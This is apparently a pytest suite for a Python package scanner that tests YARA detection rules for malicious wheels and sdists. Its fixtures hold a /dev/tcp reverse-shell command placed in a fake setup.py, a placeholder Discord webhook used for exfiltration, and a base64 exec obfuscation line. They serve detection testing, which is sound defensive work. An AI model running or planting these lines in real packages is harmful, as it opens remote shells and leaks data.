"""YARA content rules: meta, fixtures (one generic test), user rule folders, contexts, and
the real malware development set."""

from __future__ import annotations

import csv
from collections import Counter
from pathlib import Path

import pytest
from typer.testing import CliRunner

from scanner import rulesets
from scanner.analyzers import container, yara_rules
from scanner.analyzers.yara_rules import BUILTIN_RULES, content_findings
from scanner.cli import app
from scanner.cli_rules import all_rules, readme_text, run_fixtures
from scanner.model import Context, Severity
from scanner.pipeline import ScanOptions, scan
from scanner.rulesets import REQUIRED_META, RuleError, bundled_rules_dir, load
from scanner.testing import sdist_bytes, sdist_filename, wheel_bytes, wheel_filename

RULES_DIR = bundled_rules_dir()
RULESET = load()
ALL = all_rules(RULESET)
OPTIONS = ScanOptions(analyzers=(container.ANALYZER, yara_rules.ANALYZER))
HOOK = "https://discord.com/api/webhooks/123456789012345678/" + "Ab_-9" * 14
GOOD_RULE = '''rule user_marker
{
    meta:
        id = "user.test.marker"
        category = "test"
        severity = "medium"
        confidence = "high"
        description = "marker string"
        reference = "tests"
        applies_to = "any"
    strings:
        $a = "DISTSCAN-TEST-MARKER"
    condition:
        $a
}
'''


def test_bundled_rules_load_and_ids_are_unique():
    ids = [m.id for m in ALL]
    assert len(ids) == len(set(ids)) >= 30
    assert RULESET.files and all(Path(f).suffix == ".yar" for f in RULESET.files)


@pytest.mark.parametrize("meta", ALL, ids=lambda m: m.id)
def test_rule_meta_is_complete(meta):
    assert meta.id.startswith("content.")
    assert rulesets._RULE_ID.match(meta.id)
    for field in REQUIRED_META:
        assert str(getattr(meta, field)).strip(), field
    assert meta.applies_to in rulesets.APPLIES_TO
    assert meta.data_severity <= meta.severity, "data members must not weigh more than code"
    assert len(meta.description) >= 30


@pytest.mark.parametrize("meta", ALL, ids=lambda m: m.id)
def test_rule_fixtures(meta):
    """The generic test: every rule has match and nomatch fixtures and behaves on them."""
    count, failures = run_fixtures(RULES_DIR, RULESET, [meta])
    assert count >= 2
    assert failures == []


def test_no_fixture_folder_without_a_rule():
    known = {m.id for m in ALL}
    folders = {p.name for p in (RULES_DIR / "fixtures").iterdir() if p.is_dir()}
    assert folders <= known, folders - known


def test_readme_is_generated_from_current_meta():
    current = (RULES_DIR / "README.md").read_text("utf-8")
    assert current == readme_text(RULESET), "stale: run python -m scanner.cli_rules readme"
    for meta in ALL:
        assert f"`{meta.id}`" in current


def test_compiled_once_per_process_and_recompiled_on_change(tmp_path):
    (tmp_path / "user.yar").write_text(GOOD_RULE)
    first = load((str(tmp_path),))
    assert load((str(tmp_path),)) is first
    (tmp_path / "user.yar").write_text(GOOD_RULE.replace("medium", "high"))
    second = load((str(tmp_path),))
    assert second is not first
    assert {m.id: m.severity for m in second.rules}["user.test.marker"] is Severity.HIGH


def test_broken_rule_names_file_and_line(tmp_path):
    broken = GOOD_RULE.replace("$a\n}", "$a and\n}")
    (tmp_path / "broken.yar").write_text(broken)
    with pytest.raises(RuleError) as info:
        load((str(tmp_path),))
    assert f"{tmp_path / 'broken.yar'}(15)" in str(info.value)


def test_incomplete_meta_is_an_error(tmp_path):
    (tmp_path / "nometa.yar").write_text(GOOD_RULE.replace('        reference = "tests"\n', ""))
    with pytest.raises(RuleError, match=r"nometa\.yar\(1\): rule user_marker: meta is missing "
                                        r"reference"):
        load((str(tmp_path),))
    (tmp_path / "nometa.yar").write_text(GOOD_RULE.replace('"medium"', '"severe"'))
    with pytest.raises(RuleError, match="severity 'severe'"):
        load((str(tmp_path),))


def test_cli_scan_with_broken_rules_exits_2_with_the_location(tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "bad.yar").write_text("rule x {\n condition: nonsense(\n}\n")
    artifact = tmp_path / wheel_filename("demo", "1.0")
    artifact.write_bytes(wheel_bytes("demo", "1.0", {"demo/__init__.py": ""}))
    result = CliRunner().invoke(app, ["scan", "--rules", str(tmp_path / "rules"),
                                      str(artifact)])
    assert result.exit_code == 2
    assert "bad.yar(" in result.output


def test_cli_scan_applies_user_rules(tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "user.yar").write_text(GOOD_RULE)
    artifact = tmp_path / wheel_filename("demo", "1.0")
    artifact.write_bytes(wheel_bytes("demo", "1.0", {"demo/data.txt": "DISTSCAN-TEST-MARKER"}))
    result = CliRunner().invoke(app, ["scan", "--rules", str(tmp_path / "rules"), "-f", "json",
                                      str(artifact)])
    assert '"user.test.marker"' in result.output


def test_cli_rules_list_and_test(tmp_path):
    runner = CliRunner()
    listed = runner.invoke(app, ["rules", "list"])
    assert listed.exit_code == 0
    for meta in ALL:
        assert meta.id in listed.output
    assert runner.invoke(app, ["rules", "test", str(RULES_DIR)]).exit_code == 0
    folder = tmp_path / "mine"
    (folder / "fixtures" / "user.test.marker" / "match").mkdir(parents=True)
    (folder / "fixtures" / "user.test.marker" / "nomatch").mkdir(parents=True)
    (folder / "user.yar").write_text(GOOD_RULE)
    (folder / "fixtures" / "user.test.marker" / "match" / "a.txt").write_text(
        "x DISTSCAN-TEST-MARKER")
    (folder / "fixtures" / "user.test.marker" / "nomatch" / "b.txt").write_text("nothing")
    assert runner.invoke(app, ["rules", "test", str(folder)]).exit_code == 0
    (folder / "fixtures" / "user.test.marker" / "nomatch" / "c.txt").write_text(
        "DISTSCAN-TEST-MARKER")
    failed = runner.invoke(app, ["rules", "test", str(folder)])
    assert failed.exit_code == 1 and "c.txt: matched" in failed.output


def _by_path(result, rule):
    return {f.path: f for f in result.findings if f.rule == rule}


def test_severity_and_context_follow_the_member():
    files = {"demo/notify.py": f'HOOK = "{HOOK}"\n', "demo/README.md": f"see {HOOK}\n",
             "demo_hook.pth": f'import os; HOOK = "{HOOK}"\n'}
    result = scan(wheel_bytes("demo", "1.0", files), OPTIONS,
                  filename=wheel_filename("demo", "1.0"))
    found = _by_path(result, "content.exfil.discord-webhook")
    assert found["demo/notify.py"].severity is Severity.HIGH
    assert found["demo/notify.py"].context is Context.RUNTIME
    assert found["demo/notify.py"].line == 1 and "discord.com/api/webhooks" in \
        found["demo/notify.py"].evidence
    assert found["demo/README.md"].severity is Severity.MEDIUM
    assert found["demo/README.md"].context is Context.DATA
    assert found["demo_hook.pth"].context is Context.STARTUP


def test_setup_py_at_sdist_root_is_install_time():
    source = "import os\n\nos.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\")\n"
    data = sdist_bytes("demo", "1.0", {"setup.py": source})
    result = scan(data, OPTIONS, filename=sdist_filename("demo", "1.0"))
    shell = _by_path(result, "content.reverse-shell.dev-tcp")["demo-1.0/setup.py"]
    assert shell.context is Context.INSTALL and shell.line == 3


def test_code_only_rules_do_not_fire_on_docs():
    findings = content_findings(RULESET, "docs/guide.md",
                                b"exec(base64.b64decode(payload)) is what malware does\n")
    assert findings == []
    findings = content_findings(RULESET, "pkg/mod.py", b"exec(base64.b64decode(payload))\n")
    assert [f.rule for f in findings] == ["content.obfuscation.exec-decoded"]


def test_decoded_payloads_are_code_with_the_origin_context_left_to_the_pipeline():
    findings = content_findings(RULESET, "pkg/mod.py::decoded[1]",
                                b'import requests\nrequests.post("' + HOOK.encode() + b'")\n')
    hook = [f for f in findings if f.rule == "content.exfil.discord-webhook"][0]
    assert hook.severity is Severity.HIGH  # code, not data
    assert hook.context is Context.DATA  # the pipeline replaces DATA with the origin's context


def test_tiny_members_are_skipped_and_binaries_only_see_binary_rules():
    assert content_findings(RULESET, "a.py", b"exec(") == []
    elf = b"\x7fELF" + b"\x00" * 60 + b"exec(base64.b64decode(x))" + HOOK.encode()
    rules = {f.rule for f in content_findings(RULESET, "lib/x.so", elf, "elf")}
    assert rules == {"content.exfil.discord-webhook"}


def test_builtin_high_entropy_literal():
    assert BUILTIN_RULES[0].id == "content.obfuscation.high-entropy-literal"
    import base64
    import random

    rng = random.Random(3)
    blob = base64.b64encode(bytes(rng.randrange(256) for _ in range(1200)))
    hits = content_findings(RULESET, "m.py", b"X = '" + blob + b"'\n")
    assert [f.line for f in hits if f.rule == BUILTIN_RULES[0].id] == [1]
    assert content_findings(RULESET, "m.py", b"X = '" + b"ab" * 600 + b"'\n") == []


# --- real malware (development set) ------------------------------------------------------

@pytest.mark.malware
def test_content_rules_on_real_malware(malware_dev):
    """Every 6th sample (deterministic) through the content rules only: most are hit, and
    the big families (Discord webhooks, W4SP-style obfuscation, builtins-from-repr) are."""
    rows = list(csv.DictReader((malware_dev / "manifest.csv").open()))[::6]
    hit, families, per_rule = 0, set(), Counter()
    for row in rows:
        files = [p for p in (malware_dev / row["sample_id"]).iterdir() if p.is_file()]
        result = scan(files[0], OPTIONS)
        rules = {f.rule for f in result.findings if f.rule.startswith("content.")}
        per_rule.update(rules)
        if rules:
            hit += 1
            families.add(row["family"])
    # Measured when written: 1132 of 1548 samples (73%) with any content rule.
    assert hit >= 0.6 * len(rows), (hit, len(rows), per_rule)
    assert per_rule["content.exfil.discord-webhook"] >= 10
    assert per_rule["content.obfuscation.builtins-from-repr"] >= 100
    assert len(families) >= 40


def test_setup_py_inside_a_wheel_is_not_install_time():
    source = "import os\n\nos.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\")\n"
    result = scan(wheel_bytes("demo", "1.0", {"setup.py": source}), OPTIONS,
                  filename=wheel_filename("demo", "1.0"))
    shell = _by_path(result, "content.reverse-shell.dev-tcp")["setup.py"]
    assert shell.context is Context.RUNTIME


def test_identical_members_reuse_their_findings_with_their_own_path_and_kind(monkeypatch):
    """A member already scanned in this process (same bytes, same kind of member) is not
    matched again; its findings come back under the new path. The same bytes as another kind
    of member (install-time setup.py, documentation) are scanned for that kind."""
    yara_rules.clear_reuse()
    calls: list[str] = []
    real = yara_rules.content_findings

    def counting(ruleset, path, *args, **kwargs):
        calls.append(path)
        return real(ruleset, path, *args, **kwargs)

    monkeypatch.setattr(yara_rules, "content_findings", counting)
    source = f'import os\nHOOK = "{HOOK}"\n'
    first = scan(wheel_bytes("one", "1.0", {"one/notify.py": source}), OPTIONS,
                 filename=wheel_filename("one", "1.0"))
    second = scan(sdist_bytes("two", "1.0", {"two/notify.py": source, "setup.py": source,
                                              "README.md": source}),
                  OPTIONS, filename=sdist_filename("two", "1.0"))
    assert "two-1.0/two/notify.py" not in calls  # reused from one/notify.py
    assert {"two-1.0/setup.py", "two-1.0/README.md"} <= set(calls)
    hooks = _by_path(second, "content.exfil.discord-webhook")
    reused = hooks["two-1.0/two/notify.py"]
    original = _by_path(first, "content.exfil.discord-webhook")["one/notify.py"]
    assert (reused.line, reused.evidence, reused.context) == \
        (original.line, original.evidence, Context.RUNTIME)
    assert hooks["two-1.0/setup.py"].context is Context.INSTALL
    assert hooks["two-1.0/README.md"].context is Context.DATA
    # Without reuse, every member is matched again, with the same findings.
    monkeypatch.setattr(yara_rules, "REUSE_ENABLED", False)
    again = scan(wheel_bytes("one", "1.0", {"one/notify.py": source}), OPTIONS,
                 filename=wheel_filename("one", "1.0"))
    assert calls.count("one/notify.py") == 2
    assert again.findings == first.findings
    yara_rules.clear_reuse()
